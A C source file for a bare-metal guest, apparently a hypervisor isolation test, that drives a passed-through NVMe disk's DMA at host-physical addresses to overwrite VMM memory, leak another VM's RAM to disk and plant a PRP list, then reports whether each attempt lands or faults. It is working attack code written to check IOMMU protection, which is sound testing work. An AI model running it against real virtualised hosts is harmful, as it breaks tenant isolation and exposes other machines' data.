/* A malicious guest with a passed-through NVMe disk (its VM's PCI slot 1).  It brings
 * the controller up as a driver would, then aims the disk's DMA at host-physical
 * addresses it was told on its command line, `dma=A:B`:
 *
 *   a  read a block of the disk into A (the VMM's memory, or another VM's)
 *   b  write a block from B (another VM's RAM) to the disk: a leak onto the disk
 *   c  a PRP list placed at A: the controller reads its entries from there
 *
 * and prints, for each, whether the controller carried the command out ("a:done") or
 * completed it with an error status ("a:status 0x..").  Without an IOMMU the DMA is
 * host-physical and lands; with it, each is a fault record (tests/test_passthrough.py).
 */
typedef unsigned long u64;
typedef unsigned int u32;
typedef unsigned short u16;
typedef unsigned char u8;

#define ECAM(slot, off) (*(volatile u32 *)(0x30000000UL + ((u64)(slot) << 15) + (off)))
#define NVME 0x40000000UL
#define R32(off) (*(volatile u32 *)(NVME + (off)))
#define DB(i) R32(0x1000 + 4 * (i))

struct cmd { u32 cdw0, nsid; u64 rsvd, mptr, prp1, prp2; u32 cdw10, cdw11, cdw12, cdw13, cdw14, cdw15; };
struct cqe { u32 dw0, dw1; u16 sqhd, sqid, cid, status; };

static struct cmd asq[4] __attribute__((aligned(4096)));
static struct cqe acq[4] __attribute__((aligned(4096)));
static struct cmd iosq[4] __attribute__((aligned(4096)));
static struct cqe iocq[4] __attribute__((aligned(4096)));
static u8 buf[4096] __attribute__((aligned(4096)));
static u16 cid, sq_tail[2], cq_head[2], phase[2] = {1, 1};

void *memset(void *d, int c, unsigned long n) {         /* (the compiler's, for {0}) */
    volatile u8 *p = d;
    while (n--) *p++ = (u8)c;
    return d;
}

static void sbi_putchar(int c) {
    register long a0 asm("a0") = c, a7 asm("a7") = 1;
    asm volatile("ecall" : "+r"(a0) : "r"(a7) : "memory");
}
static void say(const char *s) { while (*s) sbi_putchar(*s++); }

#include "targets.h"
/* One command on queue q (0 admin, 1 I/O); its completion status (0: success). */
static u16 submit(int q, struct cmd c) {
    struct cmd *sq = q ? iosq : asq;
    struct cqe *cq = q ? iocq : acq;
    c.cdw0 |= (u32)++cid << 16;
    sq[sq_tail[q]] = c;
    sq_tail[q] = (sq_tail[q] + 1) % 4;
    asm volatile("fence" ::: "memory");
    DB(2 * q) = sq_tail[q];
    while ((*(volatile u16 *)&cq[cq_head[q]].status & 1) != phase[q])
        asm volatile("" ::: "memory");
    u16 status = cq[cq_head[q]].status >> 1;
    cq_head[q] = (cq_head[q] + 1) % 4;
    if (!cq_head[q]) phase[q] ^= 1;
    DB(2 * q + 1) = cq_head[q];
    return status;
}

static void report(const char *name, u16 status) {
    say(name);
    if (!status) { say(":done\n"); return; }
    char line[] = ":status 0x0000\n";
    for (int i = 0; i < 4; i++) line[10 + i] = "0123456789abcdef"[(status >> (12 - 4 * i)) & 15];
    say(line);
}

int main(long hart, const u8 *fdt) {
    (void)hart;
    u64 t[2];
    if (targets(bootargs(fdt), t, 2) != 2) {
        say("nvme_attack: give dma=A:B on the command line\n");
        return 1;
    }
    ECAM(1, 0x10) = NVME;
    ECAM(1, 0x04) = 0x6;
    R32(0x24) = 3 | 3 << 16;                             /* AQA: 4 entries each */
    R32(0x28) = (u32)(u64)asq; R32(0x2c) = (u32)((u64)asq >> 32);
    R32(0x30) = (u32)(u64)acq; R32(0x34) = (u32)((u64)acq >> 32);
    R32(0x14) = 1 | 6 << 16 | 4 << 20;                   /* CC: enabled */
    while (!(R32(0x1c) & 1)) ;
    struct cmd c = {0};
    c.cdw0 = 0x05; c.prp1 = (u64)iocq; c.cdw10 = 1 | 3 << 16; c.cdw11 = 1;   /* I/O CQ 1 */
    u16 s1 = submit(0, c);
    c = (struct cmd){0};
    c.cdw0 = 0x01; c.prp1 = (u64)iosq; c.cdw10 = 1 | 3 << 16; c.cdw11 = 1 | 1 << 16;
    u16 s2 = submit(0, c);
    if (s1 || s2) { say("nvme_attack: no I/O queues\n"); return 1; }
    c = (struct cmd){0};                                 /* a: read block 0 into A */
    c.cdw0 = 0x02; c.nsid = 1; c.prp1 = t[0];
    report("a", submit(1, c));
    c = (struct cmd){0};                                 /* b: write block 1 from B */
    c.cdw0 = 0x01; c.nsid = 1; c.prp1 = t[1]; c.cdw10 = 1;
    report("b", submit(1, c));
    c = (struct cmd){0};                                 /* c: 3 pages, the PRP list at A */
    c.cdw0 = 0x02; c.nsid = 1; c.prp1 = (u64)buf; c.prp2 = t[0]; c.cdw12 = 23;
    report("c", submit(1, c));
    say("nvme_attack: done\n");
    return 0;
}
